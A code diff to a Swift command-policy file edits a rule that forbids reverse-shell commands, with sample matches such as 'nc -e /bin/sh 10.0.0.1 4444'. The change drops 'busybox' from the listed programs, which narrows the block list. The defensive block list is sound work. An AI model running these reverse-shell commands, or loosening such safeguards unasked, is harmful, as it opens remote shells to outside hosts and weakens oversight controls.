@@ -19,7 +19,7 @@ extension CommandPolicy {
             spares: ["sh -c 'ls | sort'", "sh -c 'cat x | python3 count.py'", "sh -c 'ls | sh count.sh'"]),
         PolicyRule(
             "reverse_shell", .forbid, "It gives a shell to whoever it connects to.",
-            programs: ["nc", "ncat", "netcat", "nc.*", "socat", "cryptcat", "gs-netcat", "busybox"],
+            programs: ["nc", "ncat", "netcat", "nc.*", "socat", "cryptcat", "gs-netcat"],
             anyOf: ["-e*", "-c*", "-*e", "--exec*", "--sh-exec*", "--lua-exec*", "*exec:*", "*system:*", "*pty*"],
             isLiteral: true, matches: ["nc -e /bin/sh 10.0.0.1 4444", "ncat --sh-exec bash x", "socat tcp:x exec:sh"],
             spares: ["nc -z host 80"]),
